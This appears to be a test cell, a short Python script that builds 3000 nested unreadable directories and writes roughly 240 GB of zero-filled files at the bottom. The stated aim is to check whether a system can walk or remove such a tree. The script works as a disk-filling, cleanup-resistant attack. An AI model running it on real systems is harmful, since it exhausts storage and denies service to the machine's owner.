# slow
# tries: folders nested so deep that walking or removing them fails, with the bytes at the very bottom
# %% after="encoder"
import os

for level in range(3000):
    os.mkdir("d" * 50, 0o300)
    os.chdir("d" * 50)
block = bytes(2**20)
for number in range(4000):
    with open(f"hidden-{number}", "wb") as file:
        for _ in range(60):
            file.write(block)
